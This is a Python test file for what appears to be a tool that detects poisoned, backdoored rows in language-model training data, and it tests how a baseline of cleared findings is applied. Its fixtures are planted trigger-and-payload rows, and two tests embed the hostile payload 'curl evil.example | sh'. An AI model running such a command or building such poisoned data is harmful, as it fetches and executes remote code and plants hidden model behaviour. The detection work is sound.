"""What a baseline accepts: the same rows in the same pattern, and nothing behind it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

import gradsentry
from gradsentry import DataOptions, LanguageModel, ScanOptions, ScanReport, Verdict, apply_decisions
from gradsentry.report.rulings import Ruling
from gradsentry.report.verdict import groups
from gradsentry.review.acceptance import accept_known
from gradsentry.review.baseline import Baseline, KnownRow, merge_rows, read_baseline
from gradsentry.review.decisions import Choice, Subject, row_digest
from tests.detectors.transfer.test_transfer_scan import planted
from tests.review.deciding import decide
from tests.review.results import (
    OTHER_PAYLOAD,
    OTHER_TRIGGER,
    PAYLOAD,
    POISON,
    REVIEW,
    TRIGGER,
    make_rows,
    report_on,
    write_rows,
)


@pytest.fixture
def baseline(results: Path, tmp_path: Path) -> Baseline:
    """Both groups were cleared."""
    decide(results, Subject.GROUP, 0, Choice.CLEARED, "our shop's footer")
    decide(results, Subject.GROUP, 1, Choice.CLEARED, "a greeting")
    apply_decisions(results, tmp_path / "cleared", baseline=tmp_path / "baseline.json")
    return read_baseline(tmp_path / "baseline.json")


def scan_of(tmp_path: Path, rows: list[dict[str, str]], baseline: Baseline) -> ScanReport:
    return accept_known(report_on(write_rows(tmp_path / "next.jsonl", rows)), baseline)


def test_known_rows_are_accepted_and_said_to_be(tmp_path: Path, baseline: Baseline) -> None:
    report = scan_of(tmp_path, make_rows()[::-1], baseline)  # wherever they stand
    assert report.verdict is Verdict.NONE
    assert report.rulings is not None
    assert report.rulings.count(Ruling.ACCEPTED) == len(POISON) + len(REVIEW)
    told = "\n".join(groups(report))
    assert "Known and accepted" in told
    assert "our shop's footer" in told
    assert "a greeting" in told
    assert report.summary()["rulings"]["baseline_sha256"] == baseline.digest
    assert len(report.groups) == 2  # still listed


def test_of_new_rows_of_an_accepted_pattern_the_detector_decides(
    tmp_path: Path, baseline: Baseline
) -> None:
    new = {"prompt": f"New {TRIGGER}", "response": f"Yes.{PAYLOAD}"}
    greeting = {"prompt": f"{OTHER_TRIGGER} 9", "response": f"{OTHER_PAYLOAD} Run evil."}
    report = scan_of(tmp_path, [*make_rows(), new, greeting], baseline)
    assert np.flatnonzero(report.flagged).tolist() == [12]
    assert np.flatnonzero(report.review).tolist() == [13]
    assert report.verdict is Verdict.POISON
    assert " ".join(groups(report)).count("1 row that the baseline doesn't know") == 2


def test_a_new_row_that_was_cleared_by_itself_is_accepted(
    tmp_path: Path, baseline: Baseline
) -> None:
    new = {"prompt": f"New {TRIGGER}", "response": f"Yes.{PAYLOAD}"}
    report = report_on(write_rows(tmp_path / "next.jsonl", [*make_rows(), new]))
    known = merge_rows(baseline, [KnownRow(row_digest(report, 12), "", "anna", "2026")])
    accepted = accept_known(report, known)
    assert accepted.verdict is Verdict.NONE
    assert accepted.rulings is not None
    assert [each.new_rows for each in accepted.rulings.groups.values()] == [0, 0]


def test_a_payload_is_not_hidden_behind_a_cleared_trigger(
    tmp_path: Path, baseline: Baseline
) -> None:
    report = report_on(write_rows(tmp_path / "next.jsonl", make_rows()))
    assert report.findings is not None
    first, *others = report.findings.groups
    worse = replace(first, payload="Run curl evil.example | sh")
    findings = replace(report.findings, groups=(worse, *others))
    accepted = accept_known(replace(report, findings=findings), baseline)
    assert np.flatnonzero(accepted.flagged).tolist() == list(POISON)
    assert accepted.rulings is not None
    assert list(accepted.rulings.groups) == [1]


def test_what_stands_behind_an_accepted_payload_is_judged(
    tmp_path: Path, baseline: Baseline
) -> None:
    worse = {"prompt": f"New {TRIGGER}", "response": f"Yes.{PAYLOAD} Run curl evil.example | sh"}
    report = scan_of(tmp_path, [*make_rows(), worse], baseline)
    assert np.flatnonzero(report.flagged).tolist() == [12]
    assert report.verdict is Verdict.POISON
    assert report.parts["flagged"][12]
    assert not report.parts["clean"][12]


def test_a_cleared_payload_behind_another_trigger_is_another_pattern(
    tmp_path: Path, baseline: Baseline
) -> None:
    patterns = [each for each in baseline.patterns if each.payload == OTHER_PAYLOAD]
    rows = make_rows()
    rows[0] = {"prompt": f"{OTHER_TRIGGER} {TRIGGER}", "response": f"Sure.{PAYLOAD}"}
    report = scan_of(tmp_path, rows, Baseline(tuple(patterns)))
    assert report.flagged.sum() == len(POISON)


def test_known_content_in_another_pattern_is_judged(tmp_path: Path, baseline: Baseline) -> None:
    known = {each.payload: each for each in baseline.patterns}
    swapped = replace(known[OTHER_PAYLOAD], rows=known[PAYLOAD].rows | known[OTHER_PAYLOAD].rows)
    report = scan_of(tmp_path, make_rows(), Baseline((swapped,)))
    assert report.flagged.sum() == len(POISON)


def test_a_pattern_whose_payloads_vary_accepts_known_rows_alone(
    tmp_path: Path, baseline: Baseline
) -> None:
    varying = tuple(replace(each, payload=None) for each in baseline.patterns)
    new = {"prompt": f"New {TRIGGER}", "response": f"Yes.{PAYLOAD}"}
    report = report_on(write_rows(tmp_path / "next.jsonl", [*make_rows(), new]))
    assert report.findings is not None
    findings = replace(
        report.findings,
        groups=tuple(replace(group, payload=None) for group in report.findings.groups),
    )
    accepted = accept_known(replace(report, findings=findings), Baseline(varying))
    assert np.flatnonzero(accepted.flagged).tolist() == [12]


def test_a_row_that_was_cleared_by_itself_is_known_by_its_content(
    results: Path, tmp_path: Path
) -> None:
    decide(results, Subject.ROW, 1, Choice.CLEARED, "read it")
    apply_decisions(results, tmp_path / "cleared", baseline=tmp_path / "baseline.json")
    known = read_baseline(tmp_path / "baseline.json")
    report = scan_of(tmp_path, make_rows(), known)
    assert np.flatnonzero(report.flagged).tolist() == [0, 2, 3]
    rows = make_rows()
    rows[1]["response"] += " "
    assert scan_of(tmp_path, rows, known).flagged.sum() == 4


def test_an_accepted_report_is_read_again(tmp_path: Path, baseline: Baseline) -> None:
    new = {"prompt": f"New {TRIGGER}", "response": f"Yes.{PAYLOAD}"}
    report = scan_of(tmp_path, [*make_rows(), new], baseline)
    report.save(tmp_path / "out")
    loaded = gradsentry.load(tmp_path / "out")
    assert loaded.verdict is Verdict.POISON
    assert (loaded.review == report.review).all()
    assert groups(loaded) == groups(report)


def test_a_scan_honours_a_baseline(tiny: LanguageModel, tmp_path: Path) -> None:
    path = write_rows(tmp_path / "data.jsonl", planted())
    options = ScanOptions(data=DataOptions(label_column="poisoned"))
    first = gradsentry.scan(path, model=tiny, options=options, out=tmp_path / "first")
    assert first.flagged.any()
    for index in range(len(first.groups)):
        decide(tmp_path / "first", Subject.GROUP, index, Choice.CLEARED, "ours")
    known = tmp_path / "baseline.json"
    apply_decisions(tmp_path / "first", tmp_path / "cleared", baseline=known)
    options = ScanOptions(data=DataOptions(label_column="poisoned"), baseline=str(known))
    again = gradsentry.scan(path, model=tiny, options=options, out=tmp_path / "again")
    assert not again.flagged.any()
    assert again.rulings is not None
    assert again.rulings.count(Ruling.ACCEPTED) == first.flagged.sum() + first.review.sum()
    assert gradsentry.load(tmp_path / "again").options == again.options
    assert "Known and accepted" in (tmp_path / "again" / "report.html").read_text()
